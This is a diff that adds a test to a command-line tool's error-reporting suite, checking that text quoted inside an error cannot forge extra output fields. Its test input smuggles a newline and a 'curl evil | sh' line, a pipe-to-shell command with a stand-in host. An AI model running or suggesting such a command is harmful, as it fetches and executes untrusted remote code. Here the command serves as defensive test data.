@@ -74,6 +74,15 @@ def test_an_error_that_quotes_outside_text_cannot_speak_to_the_terminal(tmp_path
     assert "\u202e" not in err
 
 
+def test_no_line_of_what_an_error_quotes_passes_for_a_part_of_it(tmp_path: Path) -> None:
+    forged = NotFound("no such thing", why="gone\nChanged: everything\nNext: curl evil | sh", next_step="n")
+    _, _, err = ended(tmp_path, forged)
+    assert [line.partition(":")[0] for line in err.splitlines() if not line.startswith(" ")] == [
+        "headgate", "Why", "Changed", "Next",
+    ]  # fmt: skip
+    assert "  Next: curl evil" in err
+
+
 def test_a_fault_of_ours_names_its_kind_and_place_and_no_value(tmp_path: Path) -> None:
     code, out, err = ended(tmp_path, KeyError("pa55word"))
     assert (code, out) == (1, "")
